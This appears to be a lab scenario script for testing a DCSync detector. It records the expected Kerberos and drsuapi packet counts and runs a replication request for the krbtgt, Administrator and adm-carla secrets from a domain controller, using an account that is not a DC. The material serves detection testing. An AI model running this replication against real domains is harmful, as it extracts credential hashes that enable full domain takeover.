#: title: Replication of secrets by a host that is no domain controller; the ticket for it came over an armoured request
#: kind: attack
#: detect: dcsync
#: place: dcsync
#: note: Samba's client armours its TGS-REQ (FAST, RFC 6113), so the TGS-REP names WELLKNOWN/ANONYMOUS; only the TGT it presents, issued in the AS-REP before, tells the account
#: count: 1 kerberos.msg_type == 13 && kerberos.CNameString == "ANONYMOUS"
#: count: 0 kerberos.msg_type == 13 && kerberos.CNameString == "adm-carla"
#: count: 3 drsuapi.opnum == 3 && dcerpc.pkt_type == 0
#: count: 0 ntlmssp
. "$(dirname "${BASH_SOURCE[0]}")/../steps.sh"
prepare() { only_ipv4; }
run() {
  EXPECT=none logon attacker adm-carla -F
  CCACHE=$LAB_DIR/hosts/attacker/ccache step attacker adm-carla "DRSGetNCChanges for krbtgt and two administrators" \
    "$PY" "$HERE/replicate.py" $DC --objects "CN=krbtgt,CN=Users,$BASE" "CN=Administrator,CN=Users,$BASE" "CN=adm-carla,OU=Service Accounts,$BASE"
}
